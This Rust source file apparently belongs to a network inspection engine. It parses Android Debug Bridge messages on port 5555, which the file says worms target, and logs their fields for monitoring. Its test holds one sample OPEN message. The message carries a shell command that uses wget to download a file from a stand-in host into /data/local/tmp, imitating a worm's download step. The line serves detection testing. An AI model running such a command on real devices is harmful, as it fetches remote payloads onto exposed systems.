//! ADB, the debug bridge of Android: each message is a transaction. Worms look for it on port 5555.
//!
//! Key type: `AdbReader`. AOSP, packages/modules/adb/protocol.txt. Suricata has no ADB.
use super::{
    FieldRow, NumberForm, NumberRow, Parser, Probe, ProtocolId, Record,
    framed::{Length, MessageReader, Messages},
};
use crate::{
    cursor::Cursor,
    flow::Direction,
    transaction::{FieldId, Transaction, Transactions},
};
use Direction::{ToClient, ToServer};

const fn field(direction: Direction, index: u8) -> FieldId {
    FieldId::new(ProtocolId::Adb, direction as u8 * 64 + index)
}
const COMMAND: u8 = 0;
const DATA: u8 = 1;
const FIRST: u8 = 2;
const SECOND: u8 = 3;
const LENGTH: u8 = 4;

/// All fields.
pub static FIELDS: &[FieldRow] = &[
    FieldRow::new(ToServer, field(ToServer, COMMAND), "adb.command"),
    FieldRow::new(ToClient, field(ToClient, COMMAND), "adb.command"),
    FieldRow::new(ToServer, field(ToServer, DATA), "adb.data"),
    FieldRow::new(ToClient, field(ToClient, DATA), "adb.data"),
];

const fn number(direction: Direction, index: u8, keyword: &'static str) -> NumberRow {
    NumberRow::new(direction, field(direction, index), keyword, NumberForm::Plain)
}
/// All numbers.
pub static NUMBERS: &[NumberRow] = &[
    number(ToServer, FIRST, "adb.arg0"),
    number(ToClient, FIRST, "adb.arg0"),
    number(ToServer, SECOND, "adb.arg1"),
    number(ToClient, SECOND, "adb.arg1"),
    number(ToServer, LENGTH, "adb.data_length"),
    number(ToClient, LENGTH, "adb.data_length"),
];

const COMMANDS: [&[u8; 4]; 8] = [b"CNXN", b"AUTH", b"STLS", b"OPEN", b"OKAY", b"CLSE", b"WRTE", b"SYNC"];
/// Bytes of a message's head.
const HEAD: usize = 24;

/// The word that opens a connection, or that of another message.
pub(super) fn probe(_direction: Direction, bytes: &[u8]) -> Probe {
    match (Probe::prefix_of(bytes, &COMMANDS), bytes.get(..HEAD)) {
        (Probe::Yes, Some(head)) if proper(head) => Probe::Yes,
        (Probe::Yes, Some(_)) => Probe::No,
        (Probe::Yes, None) => Probe::More,
        (other, _) => other,
    }
}

/// The last word of the head is the command, inverted.
fn proper(head: &[u8]) -> bool {
    let (first, last) = (head.get(..4), head.get(20..24));
    first.zip(last).is_some_and(|(first, last)| first.iter().zip(last).all(|(a, b)| *a == !*b))
}

pub(super) fn parser() -> Box<dyn Parser> {
    Box::new(Messages::new(AdbReader))
}

struct AdbReader;

fn word(cursor: &mut Cursor<'_>) -> Option<u32> {
    cursor.u32().map(u32::swap_bytes)
}

impl MessageReader for AdbReader {
    fn length(&self, _direction: Direction, bytes: &[u8]) -> Length {
        let Some(head) = bytes.get(..HEAD) else { return Length::More };
        let mut cursor = Cursor::new(head.get(12..).unwrap_or(&[]));
        match word(&mut cursor) {
            Some(length) if proper(head) => Length::Known(HEAD.saturating_add(length as usize)),
            _ => Length::Broken,
        }
    }
    fn message(&mut self, direction: Direction, bytes: &[u8], transactions: &mut Transactions) {
        let id = transactions.open(ProtocolId::Adb);
        let Some(transaction) = transactions.get_mut(id) else { return };
        let mut cursor = Cursor::new(bytes);
        let fields = &mut transaction.fields;
        if let Some(command) = cursor.take(4) {
            fields.set(field(direction, COMMAND), command);
        }
        for index in [FIRST, SECOND, LENGTH] {
            if let Some(value) = word(&mut cursor) {
                fields.set_number(field(direction, index), u64::from(value));
            }
        }
        let data = bytes.get(HEAD..).unwrap_or(&[]);
        if !data.is_empty() {
            fields.set(field(direction, DATA), data);
        }
        transaction.complete_alone(direction);
    }
}

/// Bytes of data that the log shows.
const SHOWN_BYTES: usize = 1024;

/// The `adb` object of EVE.
pub fn log(transaction: &Transaction, record: &mut dyn Record) {
    let fields = &transaction.fields;
    for way in Direction::BOTH {
        let Some(command) = fields.get(field(way, COMMAND)) else { continue };
        record.text("command", command);
        for (key, index) in [("arg0", FIRST), ("arg1", SECOND), ("data_length", LENGTH)] {
            if let Some(value) = fields.number(field(way, index)) {
                record.number(key, value.cast_signed());
            }
        }
        // What is opened is a service: `shell:…`; a banner says which system it is.
        if let Some(data) =
            fields.get(field(way, DATA)).filter(|_| matches!(command, b"OPEN" | b"CNXN" | b"WRTE"))
        {
            let shown = data.get(..SHOWN_BYTES.min(data.len())).unwrap_or(data);
            record.text("data", shown.strip_suffix(b"\0").unwrap_or(shown));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::proto::framed::tests::{nth, read as talk};

    fn message(command: &[u8; 4], data: &[u8]) -> Vec<u8> {
        let inverted: Vec<u8> = command.iter().map(|b| !b).collect();
        let length = (data.len() as u32).to_le_bytes();
        [&command[..], &[1, 0, 0, 0], &[0; 4], &length, &[0; 4], &inverted, data].concat()
    }

    #[test]
    fn a_shell_that_is_opened_is_seen() {
        let hello = message(b"CNXN", b"host::\0");
        let open = message(b"OPEN", b"shell:cd /data/local/tmp; wget http://192.0.2.1/a\0");
        let banner = message(b"CNXN", b"device::ro.product.name=box\0");
        let transactions = talk(parser, &[(ToServer, &hello), (ToClient, &banner), (ToServer, &open)]);
        let fields = &nth(&transactions, 2).fields;
        assert_eq!(fields.get(field(ToServer, COMMAND)), Some(&b"OPEN"[..]));
        assert!(fields.get(field(ToServer, DATA)).is_some_and(|data| data.starts_with(b"shell:cd")));
        assert_eq!(fields.number(field(ToServer, FIRST)), Some(1));
        assert_eq!(probe(ToServer, &hello), Probe::Yes);
        assert_eq!(probe(ToServer, &hello[..9]), Probe::More);
        assert_eq!(probe(ToServer, b"OPENSSH is no bridge of Android"), Probe::No);
    }
}
